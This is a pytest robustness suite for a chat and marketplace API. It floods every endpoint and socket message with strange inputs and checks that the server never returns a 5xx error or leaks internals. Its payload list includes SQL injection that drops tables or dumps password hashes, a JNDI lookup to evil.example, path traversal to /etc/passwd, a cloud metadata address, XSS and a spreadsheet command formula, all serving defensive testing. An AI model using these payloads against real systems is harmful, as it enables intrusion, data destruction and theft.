"""Text that breaks what is careless with text, in every place of the document that takes some: never a 5xx."""

import asyncio
import itertools
import json
from collections import Counter
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote_from_bytes

import pytest
from system.people import People, Person
from system.running import Running
from system.sockets import Frame, Socket

from abuse.document import Operation, operations
from abuse.wire import Line, others_are_served

# As text, or as bytes that are no UTF-8.
STRANGE: dict[str, str | bytes] = {
    "SQL that is always true": "' OR '1'='1' --",
    "SQL that ends one and begins another": "'); DROP TABLE users; --",
    "SQL in a dollar quote": "$$; SELECT pg_sleep(60); $$",
    "SQL of a union": "x' UNION SELECT password_hash FROM users --",
    "a parameter": "$1",
    "a format": "%s%n%d {0} {x!r}",
    "patterns": "%_%\\",
    "a backslash": "\\",
    "backslash and quote": "\\'\"",
    "a search expression": "a & !b | (c <-> d):* <2> ''",
    "brackets": "((((((((((",
    "a regular expression": "(a+)+$" + "a" * 40,
    "NUL": "\0",
    "NUL inside": "a\0b",
    "a lone surrogate": "\ud800",
    "surrogates the wrong way round": "\udc00\ud800",
    "right to left": "\u202egpj.exe\u202c",
    "combining": "e" + "\u0301" * 300,
    "combining alone": "\u0301\u0327",
    "four bytes": "🎸" * 30,
    "joined": "👩‍👩‍👧‍👦",
    "flags": "🇺🇳" * 10,
    "grows in lower case": "\u0130" * 30,
    "grows in upper case": "\u00df\ufb03\u0149" * 10,
    "grows when normalised": "\ufdfa" * 30,
    "not in NFC": "\u212b\u1100\u1161\u11a8",
    "noncharacters": "\ufffe\uffff\ufdd0",
    "the last character": "\U0010ffff",
    "a byte order mark": "\ufeffada",
    "nothing that is seen": "\u200b\u200c\u200d\u2060\u00ad",
    "spaces of all kinds": "\u00a0\u2028\u2029\u3000\t\r\n",
    "control characters": "\x01\x08\x1b[31m\x7f\x85",
    "digits of others": "\u0661\u0662\u0663",
    "an overlong slash": b"\xc0\xaf",
    "an overlong NUL": b"\xc0\x80",
    "a surrogate as bytes": b"\xed\xa0\x80",
    "a byte": b"\xff",
    "cut off": b"\xf0\x9f\x8e",
    "beyond Unicode": b"\xf4\x90\x80\x80",
    "nothing": "",
    "long": "a" * 12_000,
    "a large number": "9" * 400,
    "infinity": "1e999",
    "no number": "NaN",
    "below nothing": "-1",
    "null": "null",
    "another page": "<script>alert(1)</script>",
    "a template": "{{7*7}}${7*7}<%= 7*7 %>",
    "a look-up": "${jndi:ldap://evil.example/a}",
    "a path": "../../../../etc/passwd",
    "an address": "http://169.254.169.254/latest/meta-data/",
    "a spreadsheet": "=cmd|'/C calc'!A0",
}
LINES = 8
LEAKS = (b"Traceback", b"asyncpg", b"syntax error", b"relation ", b"site-packages")
# Not what the examples say: nothing here shall close the platform, or part of it, for others.
BODIES: dict[str, Any] = {
    "PUT /admin/maintenance": {"enabled": False, "message": "Done"},
    "PUT /admin/feature-flags/{name}": {"enabled": True},
    "POST /conversations": {"type": "group", "name": "Harp quartet", "member_ids": []},
    "POST /conversations/{conversation_id}/messages": {"content": "x"},
    "POST /conversations/{conversation_id}/sanctions": {"user_id": "", "action": "warn", "reason": "x"},
    "POST /live/streams/{stream_id}/sanctions": {"user_id": "", "action": "mute", "duration_s": 1, "reason": "x"},
    "POST /admin/announcements": {
        "title": "Old",
        "content": "x",
        "starts_at": "2020-01-01T00:00:00Z",
        "ends_at": "2020-01-02T00:00:00Z",
    },
}
# Without the file of the example, which nobody has uploaded.
OFFER = {"title": "Aria", "description": "x", "price_cents": 1, "currency": "EUR", "product_type": "track"}
BODIES |= dict.fromkeys(("POST /marketplace/products", "PUT /marketplace/products/{product_id}"), OFFER)
# Which end the session that asks.
LEFT_OUT = {"POST /auth/logout", "POST /sessions/logout", "POST /sessions/logout-all", "DELETE /users/me"}


def literal(text: str | bytes) -> bytes:
    return json.dumps(text).encode() if isinstance(text, str) else b'"%b"' % text


def encoded(text: str | bytes) -> str:
    raw = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text
    return quote_from_bytes(raw, safe="")


class Sender:
    """Makes requests, each from an address of its own."""

    def __init__(self, person: Person, ids: dict[str, str]) -> None:
        self.person, self.ids = person, ids
        self._numbers = itertools.count()

    def request(self, operation: Operation, path: str, body: bytes | None) -> bytes:
        number = next(self._numbers)
        lines = [
            f"{operation.method} /api/v1/{path} HTTP/1.1",
            "Host: x",
            f"Authorization: Bearer {self.person.token}",
            f"X-Forwarded-For: 10.{200 + number // 62_500}.{number // 250 % 250}.{number % 250 + 1}",
        ]
        if body is not None:
            lines += ["Content-Type: application/json", f"Content-Length: {len(body)}"]
        return "\r\n".join([*lines, "", ""]).encode() + (body or b"")

    def requests(self, operation: Operation) -> Iterator[tuple[str, bytes]]:
        """One for each place and each text, all else as it should be."""
        body = BODIES.get(operation.key, operation.body)
        if isinstance(body, dict) and "user_id" in body:
            body = {**body, "user_id": self.ids["user_id"]}
        usual = None if body is None else json.dumps(body).encode()
        for name, text in STRANGE.items():
            for segment in operation.segments:
                if text:
                    path = operation.at({**self.ids, segment: encoded(text)})
                    yield f"{name} in the path's {segment}", self.request(operation, path, usual)
            for parameter in (*operation.query, "unheard_of"):
                needed = "" if parameter == "q" or "q" not in operation.query else "q=harp&"
                path = f"{operation.at(self.ids)}?{needed}{parameter}={encoded(text)}"
                yield f"{name} in the query's {parameter}", self.request(operation, path, usual)
            for field in operation.texts:
                many = isinstance(body.get(field), list)
                value = b"[%b]" % literal(text) if many else literal(text)
                sent = with_field(body, field, value)
                yield f"{name} in the body's {field}", self.request(operation, operation.at(self.ids), sent)
            if body is not None:
                extra = with_field(body, "unheard_of", literal(text))
                yield f"{name} in a field unheard of", self.request(operation, operation.at(self.ids), extra)


def with_field(body: Any, name: str, value: bytes) -> bytes:
    fields = [
        b"%b:%b" % (json.dumps(key).encode(), json.dumps(kept).encode()) for key, kept in body.items() if key != name
    ]
    return b"{%b}" % b",".join([*fields, b"%b:%b" % (json.dumps(name).encode(), value)])


@pytest.fixture
async def sender(people: People, ada: Person) -> Sender:
    """An administrator, who gets everywhere, and things that are there."""
    admin = await people.administrator()
    room_id = await admin.room(ada)
    product_id = (await admin.call("POST", "marketplace/products", json=OFFER))["id"]
    stream_id = (await admin.call("POST", "live/streams", json={"title": "Aria"}))["id"]
    unknown = "00000000-0000-7000-8000-000000000000"
    ids = {
        "conversation_id": room_id,
        "user_id": ada.id,
        "product_id": product_id,
        "stream_id": stream_id,
        "name": "made_up",
        "action": "mute",
    }
    others = (
        "attachment_id",
        "report_id",
        "announcement_id",
        "key_id",
        "order_id",
        "refund_id",
        "transfer_id",
        "webhook_id",
        "message_id",
        "playback",
        "rendition",
    )
    return Sender(admin, {**dict.fromkeys(others, unknown), **ids})


@pytest.mark.timeout(180)
async def test_no_text_is_a_failure_of_ours(system: Running, sender: Sender, bob: Person) -> None:
    every = [one for one in await operations(system) if one.key not in LEFT_OUT and not one.upload]
    waiting = [(one.key, *asked) for one in every for asked in sender.requests(one)]
    assert len(waiting) > 3000
    statuses: Counter[int] = Counter()
    todo = iter(waiting)

    async def work() -> None:
        line = Line(system)
        try:
            for key, what, sent in todo:
                answer = await line.ask(sent)
                where = f"{key}: {what}: {answer}"
                assert answer.status < 500, where
                assert answer.status < 400 or json.loads(answer.body)["success"] is False, where
                assert not any(leak in answer.body for leak in LEAKS), where
                statuses[answer.status] += 1
        finally:
            await line.close()

    await asyncio.gather(*(work() for _ in range(LINES)))
    # It got somewhere: some was taken, and some refused for what it is.
    assert statuses[200] > 100
    assert statuses[400] > 1000
    await others_are_served(bob)
    await forget_announcements(sender.person)


async def forget_announcements(admin: Person) -> None:
    """Those that were taken: other tests look at the list."""
    while found := (await admin.call("GET", "admin/announcements", params={"limit": 100}))["announcements"]:
        for one in found:
            await admin.call("DELETE", f"admin/announcements/{one['id']}")


async def test_no_text_is_a_failure_over_the_socket(ada: Person, bob: Person) -> None:
    room_id = await ada.room(bob)
    sent = await ada.post(room_id, "here")
    shapes: list[dict[str, Any]] = [
        {"type": "send_message", "room_id": room_id, "content": None},
        {"type": "send_message", "room_id": room_id, "content": "x", "client_msg_id": None},
        {"type": "send_message", "room_id": room_id, "content": "x", "parent_id": None},
        {"type": "send_message", "room_id": room_id, "content": "x", "attachments": [None]},
        {"type": "edit_message", "room_id": room_id, "message_id": sent["message_id"], "content": None},
        {"type": "add_reaction", "room_id": room_id, "message_id": sent["message_id"], "emoji": None},
        {"type": "pin_message", "room_id": room_id, "message_id": None},
        {"type": "join_room", "room_id": None},
        {"type": "set_presence", "status": None},
        {"type": None},
        {"type": "authenticate", "token": None},
    ]
    async with await bob.connect() as other:
        await other.call("join_room", room_id=room_id)
        for name, text in STRANGE.items():
            if isinstance(text, bytes):
                continue
            async with await ada.connect() as socket:
                for shape in shapes:
                    frame = json.loads(json.dumps(shape).replace("null", json.dumps(text)))
                    answer = await answer_to(socket, frame)
                    assert answer.get("error", {}).get("code") != "INTERNAL", f"{name} in {shape}: {answer}"
                    # Ten in a row that cannot be read would close it.
                    await socket.call("ping")
        await other.call("ping")


async def answer_to(socket: Socket, frame: Frame) -> Frame:
    """Of a frame that cannot be read the id is not known either."""
    socket.frames.clear()
    command_id = await socket.command(frame.pop("type"), **frame)
    return await socket.wait(
        lambda found: found["type"] in ("reply", "error") and found["id"] in (command_id, None), command_id
    )
